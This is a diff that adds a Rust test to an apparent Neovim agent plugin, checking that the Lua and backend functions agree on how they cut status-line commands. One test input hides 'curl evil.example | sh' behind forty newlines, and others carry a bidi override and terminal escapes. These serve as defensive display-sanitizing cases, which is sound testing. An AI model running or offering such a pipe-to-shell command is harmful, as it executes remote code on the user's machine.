@@ -322,3 +322,40 @@ fn a_lazy_require_cycle_is_found() {
         ])
     );
 }
+
+/// The chat's status line cuts a command as the backend cuts a label (`display::cut`): between
+/// escapes and markers, never inside one. The two are checked against each other on lines that
+/// put an escape or a marker across the cut.
+#[tokio::test]
+async fn the_lua_cut_and_the_backends_cut_agree() {
+    use agent_nvim::display::{cut, one_line};
+    let nvim = Nvim::start(Options {
+        ui: None,
+        env: vec![],
+        setup: String::new(),
+    })
+    .await;
+    let lines = [
+        "short".to_string(),
+        one_line("echo \u{202e}abc\u{202c} and then some more words here"),
+        one_line(&format!("echo hi{}curl evil.example | sh", "\n".repeat(40))),
+        one_line("printf '\u{1b}[31mred\u{1b}[0m'; \r tail of the line that is long"),
+        one_line("naïve café — ünïcödé text that goes on well past the width"),
+        format!("{}\\u{{200b}}rest", "x".repeat(37)),
+    ];
+    for max in [10, 20, 40] {
+        for line in &lines {
+            let lua = nvim
+                .lua(
+                    "local line, max = ...; return require('agent.text').cut(line, max)",
+                    vec![Value::from(line.as_str()), Value::from(max as u64)],
+                )
+                .await;
+            assert_eq!(
+                lua.as_str(),
+                Some(cut(line, max).as_str()),
+                "{line:?} cut to {max}"
+            );
+        }
+    }
+}
